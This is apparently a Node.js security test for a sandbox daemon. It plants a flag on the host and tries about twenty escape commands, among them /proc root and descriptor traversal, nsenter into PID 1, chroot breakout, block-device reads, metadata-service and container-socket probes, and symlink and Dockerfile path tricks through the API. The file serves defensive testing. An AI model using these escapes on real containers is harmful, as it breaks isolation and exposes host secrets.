// SPDX-License-Identifier: Apache-2.0
// F14: a flag lies on the host, in a file that everybody may read, in a service, in a process. By every way that a misconfigured sandbox would leave open
// it is looked for, from inside and by what a caller may ask the API for.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { bothWays } from '../lib/escape.mjs';
import { tar } from '../lib/tar.mjs';

export const without = ['close_fds'];

/** Puts the flag where a way out would lead to it. */
async function plant(daemon, t) {
	const flag = `flag-${randomBytes(8).toString('hex')}`;
	const file = path.join(daemon.home, 'flag');
	fs.writeFileSync(file, flag, { mode: 0o644 });
	const service = http.createServer((_, response) => response.end(flag)).listen(0, '127.0.0.1');
	const abstract = net.createServer(socket => socket.end(flag)).listen(`\0${path.basename(daemon.home)}`);
	const named = net.createServer(socket => socket.end(flag)).listen(`${file}.sock`);
	const program = spawn('sleep', ['300'], { env: { FLAG: flag }, argv0: flag, cwd: daemon.home, stdio: 'ignore' });
	t.after(() => {
		for (const server of [service, abstract, named])
			server.close();
		program.kill('SIGKILL');
	});
	await new Promise(resolve => service.listening ? resolve() : service.once('listening', resolve));
	return { flag, file, port: service.address().port, name: path.basename(daemon.home), pid: program.pid };
}

/** Commands, each of which prints the flag where its misconfiguration is. */
const fromInside = ({ file, port, name, pid }) => ({
	'the path itself': `cat ${file}`,
	'up from the root': `cat /../../../../../..${file}`,
	'a link': `ln -sfn ${file} /tmp/l; cat /tmp/l`,
	'a root of another process': `cat /proc/*/root${file} /proc/*/task/*/root${file} /proc/${pid}/root${file}`,
	'a directory of another process': 'cat /proc/*/cwd/flag',
	'an open descriptor': `for d in /proc/*/fd/*; do cat "$d${file}" "$d/..${file}" "$d/flag"; done`,
	'another descriptor than the three': `for n in $(seq 3 300); do cat /proc/self/fd/$n${file}; done`,
	'command lines and environments': 'cat /proc/*/cmdline /proc/*/environ | tr "\\0" "\\n" | grep flag-',
	'mounted directories of the host': `for m in $(awk '{ print $2 }' /proc/mounts); do cat "$m${file}" "$m/flag"; done`,
	'a file system of the host': 'for d in /dev/vd* /dev/sd* /dev/nvme* /dev/loop* /dev/dm-*; do dd if=$d bs=1M count=1; done | grep -a flag-',
	'a mount of our own': `mkdir -p /tmp/m; mount --bind / /tmp/m; mount -t proc proc /tmp/m; mount -t overlay o -o lowerdir=/ /tmp/m; cat /tmp/m${file}`,
	'a nested namespace': `unshare -Urm sh -c 'mount -t tmpfs t /mnt; cat /proc/1/root${file}'`,
	'the namespaces of PID 1': `nsenter -t 1 -a cat ${file}`,
	'a chroot that is left': `python3 -c 'import os\nos.makedirs("/tmp/c", exist_ok=True)\nf = os.open("/", os.O_RDONLY)\nos.chroot("/tmp/c")\nos.fchdir(f)\nfor i in range(64): os.chdir("..")\nos.chroot(".")\nprint(open("${file}").read())'`,
	'a service of the host': `for a in 127.0.0.1 ::1 localhost 169.254.169.254 10.0.2.2 172.17.0.1 host.docker.internal; do python3 -c 'import sys, urllib.request; print(urllib.request.urlopen("http://" + (":" in sys.argv[1] and "[%s]" or "%s") % sys.argv[1] + ":${port}", timeout=1).read().decode())' $a; done`,
	'an abstract socket': `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0${name}"); print(s.recv(99).decode())'`,
	'a socket file': `python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("${file}.sock"); print(s.recv(99).decode())'`,
	'the socket of a container engine': 'for s in /var/run/docker.sock /run/containerd/containerd.sock /run/silt/engine.sock; do [ -S $s ] && echo flag-engine; done',
	'a process of the host': `cat /proc/${pid}/environ; kill -0 ${pid} && ps -p ${pid} -o args=`,
	'a shared memory': 'ipcs -m; cat /dev/shm/*',
});

/** What a caller may ask for, or put into the sandbox for us to follow. */
async function byRequests(box, daemon, { file }) {
	await box.run(`ln -sfn ${file} /workspace/link; ln -sfn / /workspace/root; ln -sfn /proc/1/root /workspace/one`);
	const paths = [file, `../../../../../..${file}`, `/workspace/../../../..${file}`, '/workspace/link', `/workspace/root${file}`, `/workspace/one${file}`, `/proc/1/root${file}`, `/proc/self/fd/200${file}`, `/proc/1/cwd${file}`];
	const answers = [];
	for (const path of paths) {
		answers.push(await box.api('POST', '/api/read', { path }));
		answers.push(await daemon.api('GET', `/v1/sandboxes/${box.id}/files?path=${encodeURIComponent(path)}`));
		answers.push(await daemon.api('GET', `/v1/sandboxes/${box.id}/files?format=tar&path=${encodeURIComponent(path)}`));
		answers.push(await box.exec('cat flag', { cwd: path.replace(/\/flag$/, '') }));
	}
	answers.push(await daemon.api('POST', `/v1/sandboxes/${box.id}/files/search`, { path: '/', text: 'flag-' }, { deadline: 60_000 }));
	answers.push(await box.api('POST', '/api/git/checkout', { repoUrl: `file://${path.dirname(file)}` }));
	const context = tar([{ name: 'Dockerfile', data: `FROM base\nCOPY ${file} /x\nCOPY ../../../..${file} /x\nCOPY link /x\nADD file://${file} /x\nRUN cat /x\n` }, { name: 'link', type: 'symlink', target: file }]);
	answers.push(await daemon.api('POST', '/v1/images/build?t=flagged', context, { headers: { 'content-type': 'application/x-tar' }, deadline: 120_000 }));
	return answers.map(answer => answer.raw?.toString() ?? '').join('\n');
}

export async function attack(box, daemon, t) {
	const planted = await plant(daemon, t);
	const ways = fromInside(planted);
	const found = [];
	for (const [name, command] of Object.entries(ways)) {
		const { body } = await box.exec(`{ ${command}\n} 2>/dev/null`, { timeoutMs: 60_000 }, { deadline: 120_000 });
		if (body.stdout?.includes(planted.flag) || body.stdout?.includes('flag-engine'))
			found.push(name);
	}
	if ((await byRequests(box, daemon, planted)).includes(planted.flag))
		found.push('requests');
	return { succeeded: found.length > 0, found, tried: Object.keys(ways).length + 1 };
}

bothWays('F14 a flag on the host', {
	without,
	attack,
	repelled: evidence => assert.ok(evidence.tried >= 20),
	broken: evidence => assert.ok(evidence.found.includes('another descriptor than the three'), evidence.found.join(', ')),
});
